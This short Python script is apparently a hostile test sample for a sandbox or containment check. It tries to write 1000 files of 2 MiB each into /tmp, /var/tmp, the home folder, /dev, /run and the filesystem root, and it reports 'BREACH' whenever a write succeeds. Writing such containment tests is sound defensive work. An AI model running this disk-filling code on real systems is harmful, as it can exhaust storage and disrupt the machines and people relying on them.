# attack: fills temporary folders and the home folder
# contained: T1 T2
import os
print("attacking", flush=True)
for folder in ("/tmp", "/var/tmp", os.path.expanduser("~"), "/dev", "/run", "/"):
    written = 0
    try:
        for number in range(1000):
            with open(os.path.join(folder, "medic-hostile-%d" % number), "wb") as file:
                written += file.write(b"x" * (2 << 20))
        print("BREACH:", folder)
    except OSError as error:
        print("stopped at", folder, written, error)
